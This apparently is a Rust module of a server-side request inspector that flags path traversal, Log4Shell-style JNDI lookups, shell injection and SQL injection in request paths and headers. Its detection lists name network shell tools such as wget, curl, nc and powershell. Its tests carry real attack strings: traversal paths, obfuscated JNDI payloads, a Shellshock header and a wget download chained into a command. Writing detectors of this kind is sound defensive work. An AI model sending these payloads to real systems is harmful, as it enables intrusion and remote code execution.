//! Forms in a request that a program behind the server may take for a command (CWE-22, CWE-78, CWE-89, CWE-917).
//! Only that they stand there and where is said: the text itself may name a patient and is masked.

use crate::mask;

/// What the target may hold beyond these is not looked at.
const CHARS_MAX: usize = 4096;

/// Programs that somebody who can make a server run one starts first.
const PROGRAMS: &[&str] = &[
    "whoami", "ipconfig", "ifconfig", "uname", "tasklist", "systeminfo", "certutil", "powershell", "wget", "curl", "busybox", "chmod", "tftp", "nc", "bash",
    "sh", "cmd", "cmd.exe", "cat", "ls", "dir", "id", "net", "ping", "netstat",
];
/// Of these a page's own value may be one by chance: they count only under a name that says so.
const COMMON: &[&str] = &["cat", "ls", "dir", "id", "net", "ping", "sh", "nc", "cmd", "curl", "bash", "chmod", "tftp"];
const COMMAND_NAMES: &[&str] = &["cmd", "exec", "execute", "command", "shell", "c", "x", "run"];

#[derive(Default)]
pub struct Forms {
    found: Vec<&'static str>,
    places: Vec<String>,
}

impl Forms {
    fn add(&mut self, form: &'static str, place: &str) {
        if !self.found.contains(&form) {
            self.found.push(form);
        }
        if self.places.len() < 8 && !self.places.iter().any(|known| known == place) {
            self.places.push(place.to_string());
        }
    }

    /// A field of the head, by its name.
    pub fn field(&mut self, name: &str, value: &[u8]) {
        if named_lookup(value) {
            self.add("lookup", name);
        }
        // Almost every field has neither.
        if !value.iter().any(|b| matches!(b, b'$' | b'{')) {
            return;
        }
        let text = String::from_utf8_lossy(value);
        if lookup(&text) {
            self.add("lookup", name);
        }
        if text.contains("() {") {
            self.add("shell", name);
        }
    }

    pub fn target(&mut self, raw: &str) {
        if raw.len() > CHARS_MAX || !raw.bytes().any(|b| matches!(b, b'%' | b'.' | b'$' | b';' | b'|' | b'`' | b'=' | b'+')) {
            return;
        }
        // Twice: what is decoded behind a proxy comes encoded twice.
        let text = mask::decode(&mask::decode(raw)).to_ascii_lowercase();
        let (path, query) = text.split_once('?').unwrap_or((&text, ""));
        let above = path.split(['/', '\\']).any(|part| matches!(part.trim_end_matches(';'), ".." | ".%2e" | "%2e%2e"));
        if above || query.replace('\\', "/").contains("../../") {
            self.add("up", "target");
        }
        if lookup(&text) || named_lookup(text.as_bytes()) {
            self.add("lookup", "target");
        }
        if shell(&text) || query.split('&').any(program) {
            self.add("shell", "target");
        }
        let plain = query.replace(['+', '\t', '\n'], " ").replace("/**/", " ");
        if ["union select", "union all select", "' or '1'='1", "xp_cmdshell", "waitfor delay"].iter().any(|sign| plain.contains(sign)) {
            self.add("query", "target");
        }
    }

    pub fn said(self, detail: &mut Vec<(&'static str, String)>) {
        if !self.found.is_empty() {
            detail.push(("forms", self.found.join(",")));
            detail.push(("forms_in", self.places.join(",")));
        }
    }
}

/// `${prefix:…}`, also nested, which logging libraries resolve; a template that was never filled in (`${name}`) has no colon.
fn lookup(text: &str) -> bool {
    text.match_indices("${").any(|(at, _)| text.get(at..).is_some_and(|rest| rest.chars().skip(2).take(64).take_while(|c| *c != '}').any(|c| c == ':')))
}

/// `jndi:` and a kind of directory behind it, also where the sign in front was taken off on the way.
fn named_lookup(value: &[u8]) -> bool {
    let kinds: [&[u8]; 4] = [b"ldap", b"rmi", b"dns", b"iiop"];
    value.iter().enumerate().filter(|(_, b)| **b == b':').any(|(at, _)| {
        let before = value.get(at.saturating_sub(4)..at).unwrap_or(&[]);
        let behind = value.get(at.saturating_add(1)..).unwrap_or(&[]);
        before.eq_ignore_ascii_case(b"jndi") && kinds.iter().any(|kind| behind.get(..kind.len()).is_some_and(|word| word.eq_ignore_ascii_case(kind)))
    })
}

fn shell(text: &str) -> bool {
    let known = ["/bin/sh", "/bin/bash", "cmd.exe", "/etc/passwd", "$(", "`"];
    known.iter().any(|sign| text.contains(sign))
        || text.match_indices([';', '|', '&']).any(|(at, _)| {
            let rest = text.get(at..).unwrap_or("").trim_start_matches([';', '|', '&', ' ', '+']);
            let word: String = rest.chars().take_while(|c| c.is_ascii_alphanumeric() || *c == '.').collect();
            let behind = rest.get(word.len()..).unwrap_or("");
            PROGRAMS.contains(&word.as_str()) && behind.starts_with([' ', '+', ';', '|', '<', '>'])
        })
}

/// A value that is a command: `cmd=whoami`.
fn program(pair: &str) -> bool {
    let Some((name, value)) = pair.split_once('=') else { return false };
    let word = value.split([' ', '+', ';']).next().unwrap_or("");
    PROGRAMS.contains(&word) && (COMMAND_NAMES.contains(&name) || !COMMON.contains(&word))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn forms(target: &str) -> String {
        let mut forms = Forms::default();
        forms.target(target);
        let mut detail = Vec::new();
        forms.said(&mut detail);
        detail.first().map(|(_, found)| found.clone()).unwrap_or_default()
    }

    #[test]
    fn what_an_attack_asks_for_is_told_by_its_form() {
        for (target, found) in [
            ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "up"),
            ("/vpn/../vpns/portal/scripts/newbm.pl", "up"),
            ("/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh", "up,shell"),
            ("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "up"),
            ("/?x=%24%7Bjndi:ldap://a/b%7D", "lookup"),
            ("/${${::-j}${lower:n}di:ldap://a/b}", "lookup"),
            ("/uploads/logo.php?cmd=whoami", "shell"),
            ("/shell?cd+/tmp;wget+http://a/b", "shell"),
            ("/list?id=1+UNION+SELECT+1,2", "query"),
        ] {
            assert_eq!(forms(target), found, "{target}");
        }
    }

    #[test]
    fn a_field_that_logging_would_resolve() {
        let of = |value: &[u8]| {
            let mut forms = Forms::default();
            forms.field("user-agent", value);
            forms.found.join(",")
        };
        assert_eq!(of(b"${jndi:ldap://198.51.100.5/a}"), "lookup");
        assert_eq!(of(b"jndi:ldap://198.51.100.5:1389/a"), "lookup");
        assert_eq!(of(b"() { :; }; echo"), "shell");
        assert_eq!(of(b"Mozilla/5.0 (X11; Linux x86_64; rv:115.0)"), "");
        assert_eq!(of(b"{\"a\":1} ${name}"), "");
    }

    #[test]
    fn what_a_page_asks_for_has_none() {
        for target in [
            "/", "/img/${src}.png", "/dicom-web/studies?PatientID=1&limit=10", "/a..b/c", "/search?q=cat+food&id=id", "/a;jsessionid=5?x=1;y=2",
            "/find?q=black|white", "/viewer?lang=en&dir=ltr&cmd=open", "/rel?next=../index.html", "/update?os=net&v=1.2.3",
        ] {
            assert_eq!(forms(target), "", "{target}");
        }
    }
}
